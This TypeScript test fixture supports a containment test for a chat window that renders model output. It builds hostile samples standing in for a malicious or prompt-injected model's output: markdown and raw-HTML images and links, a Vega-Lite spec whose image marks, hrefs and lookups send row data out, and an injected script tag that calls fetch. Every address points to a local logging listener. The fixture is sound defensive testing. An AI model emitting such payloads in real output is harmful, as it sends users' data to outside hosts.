// What a malicious model (or a prompt injection in the data that a model
// follows) writes to make the window fetch, and a logging listener on
// loopback that every address in it points to. Used by containment.spec.ts.
import { createServer, type Server } from 'node:http';
import type { Script } from './backend';

/** A loopback HTTP listener that records every request that reaches it. */
export interface Listener {
  url: string;
  hits: string[];
  close(): Promise<void>;
}

export async function startListener(): Promise<Listener> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' });
    res.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const addr = server.address();
  if (typeof addr !== 'object' || addr === null) throw new Error('listener has no port');
  return {
    url: `http://127.0.0.1:${addr.port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const SQL = 'SELECT agency, count(*) AS requests FROM service_requests GROUP BY agency ORDER BY requests DESC LIMIT 5';

/** hostileMarkdown is model text with every kind of image and link, each pointing at base. */
export function hostileMarkdown(base: string, where: string): string {
  return [
    `Inline ![${where} inline](${base}/${where}/inline?d=DOF) image.`,
    '',
    `Reference ![${where} ref][${where}img] image and a [${where} link](${base}/${where}/link?d=DOF).`,
    '',
    `<img src="${base}/${where}/raw-html"> raw HTML`,
    '',
    `[${where}img]: ${base}/${where}/reference?d=DOF`,
  ].join('\n');
}

/**
 * hostileSpec is a Vega-Lite spec written to leak: a lookup from a URL, an
 * image mark whose url is computed from every row, an href, and
 * usermeta.embedOptions turning the action menu on, loading config from a
 * URL and putting a script in View Source's header.
 */
export function hostileSpec(base: string): Record<string, unknown> {
  return {
    transform: [
      { lookup: 'agency', from: { data: { url: `${base}/chart/lookup.json` }, key: 'agency', fields: ['extra'] } },
      { calculate: `'${base}/chart/image?d=' + datum.agency + '-' + datum.requests`, as: 'pic' },
    ],
    layer: [
      {
        mark: 'bar',
        encoding: {
          x: { field: 'agency', type: 'nominal' },
          y: { field: 'requests', type: 'quantitative' },
          href: { field: 'pic', type: 'nominal' },
        },
      },
      {
        mark: { type: 'image', width: 20, height: 20 },
        encoding: {
          x: { field: 'agency', type: 'nominal' },
          y: { field: 'requests', type: 'quantitative' },
          url: { field: 'pic', type: 'nominal' },
        },
      },
    ],
    usermeta: {
      embedOptions: {
        actions: true,
        config: `${base}/chart/config.json`,
        sourceHeader: `<script>fetch('${base}/chart/source-header')</script>`,
      },
    },
  };
}

/** hostile is the model's script: a step, a query, the chart, the answer, the report. */
export function hostile(base: string): Script {
  return {
    turns: [
      { content: hostileMarkdown(base, 'step'), tool_calls: [{ name: 'run_sql', args: { sql: SQL, purpose: 'requests per agency' } }] },
      // A chart the tool accepts; the window gets the hostile spec in its
      // place (withSpec), whatever the tool lets through.
      {
        tool_calls: [
          {
            name: 'create_chart',
            args: {
              title: 'Requests by agency',
              sql: SQL,
              spec: { mark: 'bar', encoding: { x: { field: 'agency', type: 'nominal' }, y: { field: 'requests', type: 'quantitative' } } },
            },
          },
        ],
      },
      {
        content: `${hostileMarkdown(base, 'answer')}\n\nFindings:\n- DOF leads ![finding](${base}/finding/inline) [q1, c1]\n- See [the source](${base}/finding/link) [q1]`,
      },
      {
        content: `# Requests by agency\n\n## Summary\n\n${hostileMarkdown(base, 'report')}\n\n{{chart:c1}}\n\n{{table:q1}}`,
      },
    ],
  };
}

/**
 * withSpec replaces the spec of every chart in a backend response by spec,
 * keeping the chart's own rows: the conversation as if it had been stored
 * with a chart the chart tool would refuse, to test the window on its own
 * (defence in depth: the page must be safe whatever reaches it).
 */
export function withSpec(body: unknown, spec: Record<string, unknown>): unknown {
  if (Array.isArray(body)) return body.map((v) => withSpec(v, spec));
  if (body === null || typeof body !== 'object') return body;
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(body)) {
    const parsed: unknown = k === 'spec' && typeof v === 'string' ? tryParse(v) : v;
    if (k === 'spec' && isChart(parsed)) {
      const merged = { ...spec, data: parsed['data'] };
      out[k] = typeof v === 'string' ? JSON.stringify(merged) : merged;
    } else {
      out[k] = withSpec(v, spec);
    }
  }
  return out;
}

function tryParse(s: string): unknown {
  try {
    return JSON.parse(s);
  } catch {
    return s;
  }
}

function isChart(v: unknown): v is Record<string, unknown> {
  return v !== null && typeof v === 'object' && ('mark' in v || 'layer' in v) && 'data' in v;
}
